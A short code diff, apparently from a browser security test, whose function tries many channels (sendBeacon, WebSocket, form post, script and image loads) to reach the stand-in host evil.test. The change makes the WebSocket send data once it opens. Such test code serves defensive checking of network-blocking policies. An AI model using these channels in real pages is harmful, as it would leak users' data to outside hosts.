@@ -64,7 +64,8 @@ function askEveryWay(): void {
   document.body.append(image, link, frame, script)
   void font.load().catch(() => {})
   navigator.sendBeacon('https://evil.test/beacon', 'x')
-  new WebSocket('wss://evil.test/')
+  const socket = new WebSocket('wss://evil.test/')
+  socket.addEventListener('open', () => socket.send('x'))
   const form = Object.assign(document.createElement('form'), {
     action: 'https://evil.test/form',
     method: 'post',
